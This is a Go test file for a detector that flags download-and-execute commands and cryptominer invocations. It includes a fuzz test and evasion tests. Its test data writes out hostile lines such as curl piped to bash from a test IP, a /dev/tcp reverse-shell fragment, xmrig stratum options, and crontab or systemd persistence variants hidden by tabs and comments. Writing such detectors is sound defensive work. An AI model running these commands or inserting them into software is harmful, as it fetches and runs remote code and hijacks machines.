package match

import (
	"math/rand/v2"
	"reflect"
	"slices"
	"strings"
	"testing"
)

// allSigns is signs without a doubt: every place counts.
func (s *Set) allSigns(text []byte) signs {
	g := signs{starts: true, command: true, wallets: FindWallets(text)}
	s.text.lits.Find(text, func(id, end int) bool {
		l := &s.text.what[id]
		start := end - len(l.text)
		switch {
		case l.role == roleFetch:
			if g.elsewhere(text, end) {
				g.fetches = append(g.fetches, end)
			}
		case l.role != roleDecode && (!l.exact || string(text[start:end]) == l.text):
			g.spots = append(g.spots, spot{l, start, end})
		}
		return len(g.spots) < maxSpots
	})
	return g
}

// TestSignsLoseNothing: what signs leaves out of a text gives no hit, in texts made of what commands are made of.
func TestSignsLoseNothing(t *testing.T) {
	s := shipped(t)
	parts := append(quickLines(), "get", "curl", "fetch", "wget", "GET", "http://198.51.100.4/x", "https://a.example/x.sh", "|", "| sh", "| bash", ";", "&&", "||", "&", "chmod +x x", "./x", "sudo", "root", "foo",
		"-o", "-O", "-o x", "--output x", "> x", ">x", "2>&1", "bash x", "x", "* * * * *", "5 4 3 2 1 me", "@daily", "-a rx/0", "-a", "-u", "-o pool.example.org:3333", "-o", "x=1", "md", "dd", "30s", "'", "\"", "$(", "<(", "`",
		"(", ")", "{", "#", "sh -c", "bash", "eval", "198.51.100.4/x", "nohup", "-p 1 -tls -dp 5", "-tls", "--algo", "randomx", "rx/0", "--coin", "=monero", "ExecStart=", "--config=/tmp/c.json", "stratum+tcp://", "to", "We", "#", "# ", "#!", "function", "f()", "start)", "\\curl", "bash <<<", "kdevtmpfsi", "/tmp/kinsing", "cat",
		"exec(urlopen('http://198.51.100.4/x'))", "/dev/tcp/198.51.100.4/4444")
	between := []string{" ", " ", " ", " ", "\n", "\n", "\\\n", "; ", "|", "\t", "\r\n", "\\\r\n", "\n\n", "  ", ""}
	r := rand.New(rand.NewPCG(7, 11))
	hits := 0
	for range 20000 {
		var b strings.Builder
		for range 1 + r.IntN(24) {
			b.WriteString(parts[r.IntN(len(parts))])
			b.WriteString(between[r.IntN(len(between))])
		}
		text := b.String()
		want := s.oneText(text, s.allSigns([]byte(text)))
		got := s.oneText(text, s.signs([]byte(text)))
		if hits += len(want); !reflect.DeepEqual(got, want) {
			t.Fatalf("%q:\n got %+v\nwant %+v", text, got, want)
		}
	}
	if hits < 1000 {
		t.Errorf("only %d hits: the texts test nothing", hits)
	}
}

// TestWritingHidesNoCommand: what a shell takes for the same, or leaves out, changes nothing.
func TestWritingHidesNoCommand(t *testing.T) {
	s := shipped(t)
	const plain = "curl -s http://198.51.100.7/x | bash\n"
	texts := map[string]string{
		"tabs": strings.ReplaceAll(plain, " ", "\t"), "tab behind the name": "curl\t-s http://198.51.100.7/x | bash\n", "tabs around the shell": "curl http://198.51.100.7/x |\tbash\t-s\n",
		"crontab with tabs": "*\t*\t*\t*\t*\troot\t" + strings.ReplaceAll(plain, " ", "\t"), "user behind a tab": "17 *\t* * *\troot\t" + plain,
		"tab behind a keyword": "if true; then\t" + plain, "sudo with a tab": "sudo\t" + plain, "unit with tabs": "ExecStart=/bin/sh\t-c\t\"" + strings.TrimSpace(plain) + "\"\n",
		"unit with blanks": "ExecStart = /bin/sh -c \"" + strings.TrimSpace(plain) + "\"\n", "past an alias": `\` + plain, "function": "function up() { " + plain + "}\n", "short function": "up() { " + plain + "}\n",
		"case": "case $1 in\nstart) " + plain + ";;\nesac\n", "here string": "bash <<< $(curl http://198.51.100.7/x)\n", "just behind another": "wget a\n. <(curl http://198.51.100.7/x)\n",
		"behind comments": strings.Repeat("#x\n", 1<<18) + plain, "behind miners' comments": strings.Repeat("# xmrig --algo rx/0 -o stratum+tcp://a -p -u\n", 5000) + plain,
		"behind comments of downloads": strings.Repeat("# curl $( wget\n", 9000) + "bash <(curl http://198.51.100.7/x)\n", "behind options": strings.Repeat("ls -a -u -p -o x\n", 5000) + plain,
		"behind commands": strings.Repeat(":;", 100000) + plain,
	}
	for what, text := range texts {
		if !slices.ContainsFunc(s.Text(text), func(h Hit) bool { return h.Class == Cradle && h.Strength == Strong }) {
			t.Errorf("%s: %q: no cradle", what, text[max(0, len(text)-80):])
		}
	}
	for what, text := range map[string]string{"comment": "# " + plain, "comment behind tabs": "\t\t#\t" + plain, "searched for": "grep\t'" + strings.TrimSpace(plain) + "' /var/log/syslog\n",
		"behind an empty comment": "#\n# " + plain, "shebang": "#!/bin/sh\n#\t" + plain} {
		if hits := s.Text(text); len(hits) > 0 {
			t.Errorf("%s: %q: %+v", what, text, hits)
		}
	}
}

// BenchmarkProse is what text costs that speaks of options and downloads, and gives no order: most of a system's text.
func BenchmarkProse(b *testing.B) {
	s := shipped(b)
	text := strings.Repeat("Use ls -a to get the names of all files, and cc -o name to fetch the object.\nThe curl library is written in C.\n"+
		"sub FETCH { my ($self, $key) = @_; return $self->{$key} }\n"+strings.Repeat("The quick brown fox jumps over the lazy dog, and nobody is paid for it.\n", 20), 60)
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		if hits := s.Text(text); len(hits) > 0 {
			b.Fatal(hits)
		}
	}
}
